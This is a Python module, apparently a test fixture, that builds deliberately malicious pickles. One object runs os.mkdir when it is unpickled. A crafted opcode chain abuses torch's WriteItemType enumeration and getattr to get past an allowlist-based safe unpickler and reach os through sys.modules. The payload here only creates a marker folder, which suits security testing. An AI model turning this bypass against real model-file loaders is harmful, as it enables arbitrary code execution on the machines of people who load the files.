"""Handmade malicious pickles, which execute code if they are read with a plain ``pickle.load``."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any


class Payload:
    """An object whose unpickling creates the folder ``mark``."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self.mark),)


def _text(value: str) -> bytes:
    return b"V" + value.encode() + b"\n"


def altered_enumeration(mark: Path, harmless: bytes) -> bytes:
    """The pickle ``harmless``, which must not contain WriteItemType, extended so that it also creates the folder
    ``mark``.

    It uses only names that descriptions of tensors contain: an enumeration and getattr. BUILD sets two attributes of
    the enumeration itself, so that a check that only knows enumerations finds every name among the members, and a call
    of the enumeration with any value returns a member too. The real getattr reaches the loaded modules through a
    method's globals.
    """
    enumeration = b"ctorch.distributed.checkpoint.planner\nWriteItemType\n"

    def attribute(owner: bytes, name: str) -> bytes:
        return b"cbuiltins\ngetattr\n(" + owner + _text(name) + b"tR"

    def call(function: bytes, argument: str) -> bytes:
        return function + b"(" + _text(argument) + b"tR"

    names = ["__new__", "__globals__", "get", "modules", "mkdir"]
    values = ["sys", "os", str(mark)]
    members = b"}(" + b"".join(_text(name) + enumeration for name in names) + b"u"
    by_value = b"}(" + b"".join(_text(value) + enumeration for value in values) + b"u"
    state = b"(N}(" + _text("_member_map_") + members + _text("_value2member_map_") + by_value + b"ut"
    module = call(attribute(attribute(attribute(enumeration, "__new__"), "__globals__"), "get"), "sys")
    os_module = call(attribute(attribute(module, "modules"), "get"), "os")
    attack = enumeration + state + b"b0" + call(attribute(os_module, "mkdir"), str(mark)) + b"0"
    return harmless.removesuffix(b".") + attack + b"."
